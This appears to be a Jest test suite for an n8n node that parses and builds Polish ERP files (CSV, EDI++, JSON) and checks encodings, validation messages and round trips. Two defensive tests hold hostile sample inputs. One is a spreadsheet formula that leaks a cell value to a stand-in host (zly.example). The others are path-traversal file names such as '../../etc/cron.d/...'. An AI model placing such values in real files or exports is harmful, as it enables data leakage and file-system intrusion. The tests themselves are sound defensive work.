/** The ERP File node through n8n-core: parse CSV / EDI++ / JSON files, build EDI++ ZK, CSV and JSON files. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { ErpFile } from '../../nodes/ErpFile/ErpFile.node';
import { parseEpp, writeEpp } from '../../nodes/shared/edi/epp';
import { TOWARY_FIELDS, indexOf } from '../../nodes/shared/edi/epp-fields';
import { orderFromZk } from '../../nodes/shared/edi/epp-canonical';
import { decodeText, encodeText } from '../../nodes/shared/files/encoding';
import { runNode } from '../harness/n8n-core-harness';
import { makeOrder } from '../fixtures/polish';
import { GOLDEN_ORDER } from '../fixtures/epp/make-golden';

const FILES = path.join(__dirname, '../fixtures/files');
const EPP = path.join(__dirname, '../fixtures/epp');

const fileItem = (bytes: Buffer, fileName: string, mimeType = 'text/csv') => ({
	json: {},
	binary: { data: { data: bytes.toString('base64'), mimeType, fileName } },
});

const parse = (parameters: Record<string, unknown>, items: object[], continueOnFail = false) =>
	runNode({
		nodeType: new ErpFile(),
		parameters: { operation: 'parse', binaryPropertyName: 'data', ...parameters } as never,
		inputItems: items as never,
		continueOnFail,
	});

const build = (parameters: Record<string, unknown>, items: object[], continueOnFail = false) =>
	runNode({
		nodeType: new ErpFile(),
		parameters: { operation: 'build', ...parameters } as never,
		inputItems: items.map((json) => ({ json: json as never })),
		continueOnFail,
	});

const PRODUCT_COLUMNS = { mapping: { code: 'Symbol', name: 'Nazwa', unit: 'Jednostka', vatRate: 'VAT', ean: 'EAN' } };

describe('ERP File › Parse File › CSV', () => {
	it('reads a Windows-1250 CSV with ";" and Polish names into products with the exact UTF-8 bytes', async () => {
		const bytes = readFileSync(path.join(FILES, 'towary-cp1250.csv'));
		const r = await parse(
			{ format: 'csv', entity: 'product', encoding: 'auto', delimiter: 'auto', productColumns: PRODUCT_COLUMNS, options: { includeSourceInfo: true } },
			[fileItem(bytes, 'towary-cp1250.csv')],
		);
		expect(r.error).toBeUndefined();
		const out = r.output![0];
		expect(out).toHaveLength(3);
		expect(out.map((o) => o.json.code)).toEqual(['ŁÓD-001', 'ŻAG-002', 'WIO-003']);
		// byte-wise: what n8n passes on is UTF-8 of the right letters
		expect(Buffer.from(out[0].json.name as string, 'utf8')).toEqual(Buffer.from('Łódka żółta ĄĘŚ', 'utf8'));
		expect(Buffer.from(out[0].json.name as string, 'utf8').toString('hex')).toBe(
			'c581c3b3646b6120c5bcc3b3c582746120c484c498c59a',
		);
		expect(Buffer.from(out[1].json.name as string, 'utf8')).toEqual(Buffer.from('Żagiel źrebięcy ćma ŃÓŹ', 'utf8'));
		expect(Buffer.from(out[2].json.name as string, 'utf8')).toEqual(Buffer.from('Wiosło ą ć ę ł ń ó ś ź ż', 'utf8'));
		expect(out[0].json).toMatchObject({ unit: 'szt.', vatRate: '23', ean: '5901234123457', active: true });
		expect(out[2].json).toMatchObject({ unit: 'para', vatRate: 'zw' });
		expect(out[0].json._source).toMatchObject({ fileName: 'towary-cp1250.csv', encoding: 'windows-1250', line: 2 });
		expect(String((out[0].json._source as { encodingReason: string }).encodingReason)).not.toBe('');
		expect(out.every((o) => (o.pairedItem as { item: number }).item === 0)).toBe(true);
	});

	it('keeps the default output clean canonical records (no _source)', async () => {
		const bytes = readFileSync(path.join(FILES, 'towary-cp1250.csv'));
		const r = await parse(
			{ format: 'csv', entity: 'product', encoding: 'windows-1250', delimiter: ';', productColumns: PRODUCT_COLUMNS },
			[fileItem(bytes, 'towary-cp1250.csv')],
		);
		expect(Object.keys(r.output![0][0].json).sort()).toEqual(['active', 'code', 'ean', 'name', 'unit', 'vatRate']);
	});

	const PRICE_PARAMS = {
		format: 'csv',
		entity: 'price',
		encoding: 'auto',
		delimiter: 'auto',
		priceColumns: { mapping: { productCode: 'Symbol', scopeCode: 'Cennik', net: 'Netto', scope: '', currency: '' } },
		defaultScope: 'priceList',
		defaultCurrency: 'PLN',
	};

	it('stops on a bad price on line 3 naming the file, the line and the field, with no output', async () => {
		const bytes = readFileSync(path.join(FILES, 'ceny-zla-cena-cp1250.csv'));
		const r = await parse(PRICE_PARAMS, [fileItem(bytes, 'ceny-zla-cena-cp1250.csv')]);
		expect(r.output).toBeNull();
		expect(r.error?.message).toMatch(/ceny-zla-cena-cp1250\.csv line 3: price "ŻAG-002": field "net" must be a decimal number/);
	});

	it('with Continue On Fail gives only error items for that file, and the good file passes', async () => {
		const bad = readFileSync(path.join(FILES, 'ceny-zla-cena-cp1250.csv'));
		const good = Buffer.from('Symbol;Cennik;Netto\r\nŁÓD-001;Detaliczna;100.00\r\n', 'utf8');
		const r = await parse(PRICE_PARAMS, [fileItem(bad, 'ceny-zla-cena-cp1250.csv'), fileItem(good, 'dobre.csv')], true);
		const out = r.output![0];
		expect(out).toHaveLength(2);
		expect(out[0].json).toMatchObject({ line: 3, field: 'net' });
		expect(out[0].json.error).toMatch(/ceny-zla-cena-cp1250\.csv line 3/);
		expect(out[0].pairedItem).toEqual({ item: 0 });
		expect(out[1].json).toEqual({ productCode: 'ŁÓD-001', scope: 'priceList', scopeCode: 'Detaliczna', currency: 'PLN', net: '100.00' });
		expect(out[1].pairedItem).toEqual({ item: 1 });
	});

	it('reads decimal commas when asked', async () => {
		const csv = Buffer.from('Symbol;Cennik;Netto\r\nŁÓD-001;Hurtowa;1 234,5\r\n', 'utf8');
		const r = await parse({ ...PRICE_PARAMS, options: { decimalComma: true } }, [fileItem(csv, 'c.csv')]);
		expect(r.output![0][0].json.net).toBe('1234.50');
	});

	it('names a missing required column', async () => {
		const csv = Buffer.from('Kod;Nazwa\r\nA;B\r\n', 'utf8');
		const r = await parse({ format: 'csv', entity: 'product', productColumns: PRODUCT_COLUMNS }, [fileItem(csv, 'x.csv')]);
		expect(r.error?.message).toMatch(/x\.csv/);
		expect(r.error?.message).toMatch(/Symbol/);
	});
});

describe('ERP File › Parse File › EDI++ golden files', () => {
	it.each(['golden-1.05-cp1250.epp', 'golden-1.11-cp1250.epp', 'golden-1.05-cp852.epp'])('%s → products, prices, clients', async (name) => {
		const bytes = readFileSync(path.join(EPP, name));
		const item = [fileItem(bytes, name, 'application/octet-stream')];
		const products = await parse({ format: 'epp', entity: 'product', encoding: 'auto', options: { includeSourceInfo: true } }, item);
		expect(products.error).toBeUndefined();
		expect(products.output![0].map((o) => o.json.code)).toEqual(['ŁÓD-001', 'WIE-002', 'ŹRÓ-003', 'USŁ-004']);
		expect(products.output![0].map((o) => o.json.vatRate)).toEqual(['23', '8', 'zw', 'oo']);
		expect(products.output![0][1].json.name).toBe('Wiertło "Żubr", 10 mm');
		expect((products.output![0][0].json._source as { encoding: string }).encoding).toBe(name.includes('852') ? 'cp852' : 'windows-1250');

		const prices = await parse({ format: 'epp', entity: 'price', encoding: 'auto', defaultCurrency: 'PLN' }, item);
		expect(prices.output![0].map((o) => o.json)).toEqual([
			{ productCode: 'ŁÓD-001', scope: 'priceList', scopeCode: 'Detaliczna', currency: 'PLN', net: '100.00', gross: '123.00', vatRate: '23' },
			{ productCode: 'ŁÓD-001', scope: 'priceList', scopeCode: 'Hurtowa', currency: 'PLN', net: '81.30', gross: '100.00', vatRate: '23' },
			{ productCode: 'WIE-002', scope: 'priceList', scopeCode: 'Hurtowa', currency: 'PLN', net: '12.35', gross: '13.33', vatRate: '8' },
			{ productCode: 'ŹRÓ-003', scope: 'priceList', scopeCode: 'Hurtowa', currency: 'PLN', net: '7.50', gross: '7.50', vatRate: 'zw' },
		]);

		const clients = await parse({ format: 'epp', entity: 'client', encoding: 'auto' }, item);
		expect(clients.output![0].map((o) => o.json.code)).toEqual(['ŻÓŁW', 'ĆMA']);
		expect(clients.output![0][0].json).toMatchObject({
			name: 'Przedsiębiorstwo "Żółw", Sp. z o.o. ĄĆĘŁŃÓŚŹŻ',
			taxId: '5261040828',
			blocked: false,
			addresses: [{ type: 'billing', street: 'ul. Źródlana 7/3', postalCode: '80-001', city: 'Gdańsk', countryCode: 'PL' }],
		});
	});

	it('refuses stock levels from an EDI++ file', async () => {
		const bytes = readFileSync(path.join(EPP, 'golden-1.05-cp1250.epp'));
		const r = await parse({ format: 'epp', entity: 'stock' }, [fileItem(bytes, 'g.epp')]);
		expect(r.error?.message).toMatch(/g\.epp: EDI\+\+ files carry no stock levels/);
	});
});

describe('ERP File › Parse File › fixes found by the file-sync templates', () => {
	it('a bad value in an EDI++ record names the file and the record, and nothing of the file is passed on', async () => {
		const doc = parseEpp(readFileSync(path.join(EPP, 'golden-1.05-cp1250.epp')));
		const towary = doc.sections.find((s) => s.name === 'TOWARY')!;
		towary.body[1][indexOf(TOWARY_FIELDS, 'vatSymbol')] = 'XX';
		towary.body[1][indexOf(TOWARY_FIELDS, 'vatRate')] = 'zw';
		const bytes = writeEpp(doc, { encoding: 'windows-1250', version: '1.05' });
		const r = await parse({ format: 'epp', entity: 'product' }, [fileItem(bytes, 'towary-źle.epp')]);
		expect(r.output).toBeFalsy();
		expect(r.error?.message).toMatch(
			/^towary-źle\.epp line \d+ \(TOWARY record 2\): product "[^"]+": EDI\+\+ field 12 \(vatRate\): "zw" is not a decimal number/,
		);
	});

	it('an EDI++ TOWARY record with an empty VAT field (another program wrote it) names file, line, code and field', async () => {
		const doc = parseEpp(readFileSync(path.join(EPP, 'golden-1.05-cp1250.epp')));
		const towary = doc.sections.find((s) => s.name === 'TOWARY')!;
		const code = towary.body[1][indexOf(TOWARY_FIELDS, 'symbol')];
		towary.body[1][indexOf(TOWARY_FIELDS, 'vatSymbol')] = '';
		towary.body[1][indexOf(TOWARY_FIELDS, 'vatRate')] = '';
		const bytes = writeEpp(doc, { encoding: 'windows-1250', version: '1.05' });
		// the file line of that record, found in the written text
		const line = decodeText(bytes, 'windows-1250').text.split('\r\n').findIndex((l) => l.includes(`"${code}"`)) + 1;
		expect(line).toBeGreaterThan(1);
		const message =
			`towary-żółte.epp line ${line} (TOWARY record 2): product "${code}": EDI++ field 11 (vatSymbol): ` +
			'VAT symbol and VAT rate are both empty (InsERT programs always write them)';
		const stop = await parse({ format: 'epp', entity: 'product' }, [fileItem(bytes, 'towary-żółte.epp')]);
		expect(stop.output).toBeFalsy();
		expect(stop.error?.message).toBe(message);
		// with Continue On Fail: one error item with the line and the EDI++ field, nothing else of the file
		const items = await parse({ format: 'epp', entity: 'product' }, [fileItem(bytes, 'towary-żółte.epp')], true);
		expect(items.output![0].map((o) => o.json)).toEqual([{ error: message, line, field: '#11' }]);
	});

	it('a record that maps but fails validation names the EDI++ line too', async () => {
		const doc = parseEpp(readFileSync(path.join(EPP, 'golden-1.05-cp1250.epp')));
		const towary = doc.sections.find((s) => s.name === 'TOWARY')!;
		const code = towary.body[0][indexOf(TOWARY_FIELDS, 'symbol')];
		towary.body[0][indexOf(TOWARY_FIELDS, 'name')] = '';
		const bytes = writeEpp(doc, { encoding: 'windows-1250', version: '1.05' });
		const line = decodeText(bytes, 'windows-1250').text.split('\r\n').findIndex((l) => l.includes(`"${code}"`)) + 1;
		const r = await parse({ format: 'epp', entity: 'product' }, [fileItem(bytes, 'towary-ąę.epp')]);
		expect(r.error?.message).toMatch(
			new RegExp(`^towary-ąę\\.epp line ${line} \\(TOWARY record 1\\): product "${code}": field "name" is missing`),
		);
	});

	it('stock below zero in a Windows-1250 CSV is data: available 0, the row counted, the rest of the file read', async () => {
		// the file-sync stock template's columns; Subiekt sold ŻUK-7 below zero, WIO-003 has more reserved than on hand
		const csv = encodeText(
			'Symbol;Magazyn;Stan;Rezerwacja;Dostępne\r\n' +
				'ŁÓD-001;MAG-ŁÓDŹ;12,5;2;10,5\r\n' +
				'ŻUK-7;MAG-ŁÓDŹ;-3;0;-3\r\n' +
				'WIO-003;MAG-ŁÓDŹ;4;6;-2\r\n',
			'windows-1250',
		);
		const stockColumns = {
			mapping: { productCode: 'Symbol', warehouseCode: 'Magazyn', onHand: 'Stan', reserved: 'Rezerwacja', available: 'Dostępne' },
		};
		const r = await parse(
			{ format: 'csv', entity: 'stock', stockColumns, options: { decimalComma: true } },
			[fileItem(csv, 'stany-źródło.csv')],
		);
		expect(r.error).toBeUndefined();
		expect(r.output![0].map((o) => o.json)).toEqual([
			{ productCode: 'ŁÓD-001', warehouseCode: 'MAG-ŁÓDŹ', onHand: '12.5', reserved: '2', available: '10.5' },
			{
				productCode: 'ŻUK-7',
				warehouseCode: 'MAG-ŁÓDŹ',
				onHand: '0',
				reserved: '0',
				available: '0',
				_belowZero: { onHand: '-3', available: '-3' },
			},
			{
				productCode: 'WIO-003',
				warehouseCode: 'MAG-ŁÓDŹ',
				onHand: '4',
				reserved: '6',
				available: '0',
				_belowZero: { available: '-2' },
			},
		]);
		expect((r.runData['ERP File'][0].hints ?? []).map((h) => h.message)).toEqual([
			'stany-źródło.csv: 2 stock levels below zero in the ERP, sent with available 0: ŻUK-7 / MAG-ŁÓDŹ, WIO-003 / MAG-ŁÓDŹ',
		]);
	});

	it('stock below zero in a JSON file (numbers) follows the same rule; a file without any gives no hint', async () => {
		const json = Buffer.from(
			JSON.stringify([
				{ productCode: 'ŻUK-7', warehouseCode: 'MAG-ŁÓDŹ', onHand: -3, reserved: 1, available: -4, incoming: 5 },
			]),
		);
		const r = await parse({ format: 'json', entity: 'stock' }, [fileItem(json, 'stany-ż.json', 'application/json')]);
		expect(r.output![0].map((o) => o.json)).toEqual([
			{
				productCode: 'ŻUK-7',
				warehouseCode: 'MAG-ŁÓDŹ',
				onHand: '0',
				reserved: '1',
				available: '0',
				incoming: '5',
				_belowZero: { onHand: '-3', available: '-4' },
			},
		]);
		const plain = Buffer.from(JSON.stringify([{ productCode: 'ŁÓD-001', warehouseCode: 'MAG-ŁÓDŹ', onHand: 3, available: 3 }]));
		const ok = await parse({ format: 'json', entity: 'stock' }, [fileItem(plain, 'stany-ą.json', 'application/json')]);
		expect(ok.output![0].map((o) => o.json)).toEqual([
			{ productCode: 'ŁÓD-001', warehouseCode: 'MAG-ŁÓDŹ', onHand: '3', reserved: '0', available: '3' },
		]);
		expect(ok.runData['ERP File'][0].hints ?? []).toEqual([]);
	});

	it('a stock CSV without a warehouse column takes "Default Warehouse Code"; without it the column is named as missing', async () => {
		const csv = Buffer.from('Symbol;Stan\r\nŁÓD-001;12\r\nŻAG-002;0\r\n', 'utf8');
		const stockColumns = { mapping: { productCode: 'Symbol', onHand: 'Stan', available: 'Stan' } };
		const ok = await parse(
			{ format: 'csv', entity: 'stock', stockColumns, defaultWarehouseCode: 'MAG' },
			[fileItem(csv, 'stany.csv')],
		);
		expect(ok.error).toBeUndefined();
		expect(ok.output![0].map((o) => [o.json.productCode, o.json.warehouseCode, o.json.available])).toEqual([
			['ŁÓD-001', 'MAG', '12'],
			['ŻAG-002', 'MAG', '0'],
		]);
		const missing = await parse({ format: 'csv', entity: 'stock', stockColumns }, [fileItem(csv, 'stany.csv')]);
		expect(missing.error?.message).toMatch(/stany\.csv/);
		expect(missing.error?.message).toMatch(/warehouse/i);
	});

	it('a NIP from a CSV is written as the ERP mappings write it (10 digits)', async () => {
		const csv = Buffer.from('Symbol;Nazwa;NIP\r\nŻÓŁW;Przedsiębiorstwo Żółw;PL 526-104-08-28\r\n', 'utf8');
		const r = await parse(
			{ format: 'csv', entity: 'client', clientColumns: { mapping: { code: 'Symbol', name: 'Nazwa', taxId: 'NIP' } } },
			[fileItem(csv, 'kontrahenci.csv')],
		);
		expect(r.error).toBeUndefined();
		expect(r.output![0][0].json.taxId).toBe('5261040828');
	});
});

describe('ERP File › Parse File › JSON', () => {
	it('reads {items:[…]} and names the bad record', async () => {
		const ok = Buffer.from(JSON.stringify({ items: [{ code: 'ŁÓD-001', name: 'Łódka' }] }), 'utf8');
		const r = await parse({ format: 'json', entity: 'product' }, [fileItem(ok, 'p.json', 'application/json')]);
		expect(r.output![0][0].json).toEqual({ code: 'ŁÓD-001', name: 'Łódka', unit: 'szt.', vatRate: '23', active: true });
		const bad = Buffer.from(JSON.stringify([{ code: 'A', name: 'a' }, { code: 'B' }]), 'utf8');
		const r2 = await parse({ format: 'json', entity: 'product' }, [fileItem(bad, 'p.json', 'application/json')]);
		expect(r2.output).toBeNull();
		expect(r2.error?.message).toMatch(/p\.json record 2: product "B": field "name" is missing/);
	});
});

describe('ERP File › Build File', () => {
	it.each(['windows-1250', 'cp852'] as const)('EDI++ ZK (%s) parses back to the same order numbers and amounts', async (encoding) => {
		const orders = [GOLDEN_ORDER, makeOrder(7, { notes: 'Dostawa przed świętami - zażółć gęślą jaźń' })];
		const r = await build({ outputFormat: 'epp', eppEncoding: encoding, eppVersion: '1.05', fileName: 'zamowienia.epp', outputBinaryPropertyName: 'data' }, orders);
		expect(r.error).toBeUndefined();
		const out = r.output![0];
		expect(out).toHaveLength(1);
		expect(out[0].json).toMatchObject({ fileName: 'zamowienia.epp', format: 'epp', encoding, records: 2 });
		const bin = out[0].binary!.data;
		expect(bin.fileName).toBe('zamowienia.epp');
		const doc = parseEpp(Buffer.from(bin.data, 'base64'), { fileName: 'zamowienia.epp' });
		expect(doc.encoding).toBe(encoding);
		expect(doc.sections.map((s) => s.name)).toEqual(['ZK', 'ZK']);
		const [a, b] = doc.sections.map(orderFromZk);
		expect(a.number).toBe('B2B/2026/000123');
		expect(a.totals).toEqual({ net: '280.12', vat: '58.32', gross: '338.44' });
		expect(a.lines.map((l) => l.quantity)).toEqual(['3', '2.5', '1.125']);
		expect(b.number).toBe('B2B/2026/000007');
		// 2 × 129.99 net 23 % + 1 × 45.00 zw
		expect(b.totals).toEqual({ net: '304.98', vat: '59.80', gross: '364.78' });
		expect(b.notes).toBe('Dostawa przed świętami - zażółć gęślą jaźń');
	});

	it('refuses a character the code page cannot hold instead of writing "?"', async () => {
		const r = await build({ outputFormat: 'epp', eppEncoding: 'cp852' }, [makeOrder(7)]);
		expect(r.output).toBeNull();
		expect(r.error?.message).toMatch(/character "—" \(U\+2014\).*cannot be written in cp852/);
	});

	it('refuses a bad order and makes no file', async () => {
		const r = await build({ outputFormat: 'epp' }, [GOLDEN_ORDER, { ...makeOrder(8), lines: [] }]);
		expect(r.output).toBeNull();
		expect(r.error?.message).toMatch(/Item 2: order "B2B\/2026\/000008": field "lines"/);
	});

	it('refuses an order with a line at a VAT rate the ERP does not know (22) and makes no file; "Allowed VAT Rates" can add one', async () => {
		const at22 = makeOrder(15, {
			lines: [
				{ lineNo: 1, productCode: 'ŁÓD-001', quantity: '2', unitPrice: '129.99', vatRate: '23' },
				{ lineNo: 2, productCode: 'WIO-003', quantity: '1', unitPrice: '45.00', vatRate: '22' },
			],
		});
		const r = await build({ outputFormat: 'epp' }, [GOLDEN_ORDER, at22]);
		expect(r.output).toBeNull();
		expect(r.error?.message).toBe(
			'Item 2: order "B2B/2026/000015": field "lines[1].vatRate" is 22 on line 2 (WIO-003): not a VAT rate the ERP takes (allowed: 23, 8, 5, 0, zw, np, oo; option "Allowed VAT Rates")',
		);
		expect((r.error as { context?: { itemIndex?: number } }).context?.itemIndex).toBe(1);
		// the same order as Optima document XML and as JSON: the same rule
		const xml = await build({ outputFormat: 'optimaXml' }, [at22]);
		expect(xml.error?.message).toMatch(/^Item 1: order "B2B\/2026\/000015": field "lines\[1\]\.vatRate" is 22 on line 2/);
		const json = await build({ outputFormat: 'json', buildEntity: 'order' }, [at22]);
		expect(json.error?.message).toMatch(/field "lines\[1\]\.vatRate" is 22 on line 2/);
		const allowed = await build({ outputFormat: 'epp', buildOptions: { allowedVatRates: '23, 8, 5, 0, zw, np, oo, 22' } }, [at22]);
		expect(allowed.error).toBeUndefined();
		expect(allowed.output![0][0].json).toMatchObject({ format: 'epp', records: 1 });
	});

	it('CSV of products in Windows-1250 with ";" reads back with Parse File', async () => {
		const products = [
			{ code: 'ŁÓD-001', name: 'Łódka żółta; ĄĘŚ', unit: 'szt.', vatRate: '23', active: true },
			{ code: 'WIO-003', name: 'Wiosło', vatRate: 'zw' },
		];
		const r = await build({ outputFormat: 'csv', buildEntity: 'product', csvEncoding: 'windows-1250', csvDelimiter: ';', fileName: 'towary.csv' }, products);
		const bytes = Buffer.from(r.output![0][0].binary!.data.data, 'base64');
		const text = decodeText(bytes, 'windows-1250').text;
		expect(text.split('\r\n')[0]).toBe('code;name;description;ean;unit;vatRate;active;updatedAt');
		const back = await parse({ format: 'csv', entity: 'product', encoding: 'auto' }, [fileItem(bytes, 'towary.csv')]);
		expect(back.output![0].map((o) => o.json)).toEqual([
			{ code: 'ŁÓD-001', name: 'Łódka żółta; ĄĘŚ', unit: 'szt.', vatRate: '23', active: true },
			{ code: 'WIO-003', name: 'Wiosło', unit: 'szt.', vatRate: 'zw', active: true },
		]);
	});

	it('CSV: a note a spreadsheet would run as a formula is written as text (default), or as it is when switched off', async () => {
		const order = makeOrder(10, { notes: '=HYPERLINK("http://zly.example/?"&A1;"Faktura")' });
		const text = async (extra: Record<string, unknown>) => {
			const r = await build(
				{ outputFormat: 'csv', buildEntity: 'order', csvEncoding: 'utf-8', csvDelimiter: ';', ...extra },
				[order],
			);
			expect(r.error).toBeUndefined();
			return decodeText(Buffer.from(r.output![0][0].binary!.data.data, 'base64'), 'utf-8').text;
		};
		const safe = await text({});
		expect(safe).toContain(`"'=HYPERLINK(""http://zly.example/?""&A1;""Faktura"")"`);
		expect(safe).not.toMatch(/(^|;)"?=/m);
		const raw = await text({ csvEscapeFormulae: false });
		expect(raw).toMatch(/;"=HYPERLINK\(/);
	});

	it.each([
		['../../etc/cron.d/zamowienia.epp'],
		['..\\..\\Windows\\zamowienia.epp'],
		['eksport/zamowienia.epp'],
		['C:\\eksport\\zamowienia.epp'],
		['..'],
		['zamowienia..epp/..'],
	])('refuses the File Name %p: a name, not a path', async (fileName) => {
		const r = await build({ outputFormat: 'epp', fileName }, [GOLDEN_ORDER]);
		expect(r.output).toBeNull();
		expect(r.error?.message).toMatch(/^File Name ".*" is a path: .*"\/", "\\" and "\.\." are not allowed/);
	});

	it('cleans the File Name like invoice PDF names: characters other than letters, digits, "_", "." and "-" become "_"', async () => {
		const r = await build({ outputFormat: 'json', buildEntity: 'order', fileName: 'zamówienia 2026:11*?<>|.json' }, [
			makeOrder(9),
		]);
		expect(r.error).toBeUndefined();
		expect(r.output![0][0].json.fileName).toBe('zam_wienia_2026_11_.json');
		expect(r.output![0][0].binary!.data.fileName).toBe('zam_wienia_2026_11_.json');
	});

	it('JSON of orders from a record field', async () => {
		const r = await build({ outputFormat: 'json', buildEntity: 'order', recordField: 'order', fileName: 'o.json' }, [{ order: makeOrder(9) }]);
		const parsed = JSON.parse(Buffer.from(r.output![0][0].binary!.data.data, 'base64').toString('utf8'));
		expect(parsed).toHaveLength(1);
		expect(parsed[0].number).toBe('B2B/2026/000009');
	});
});
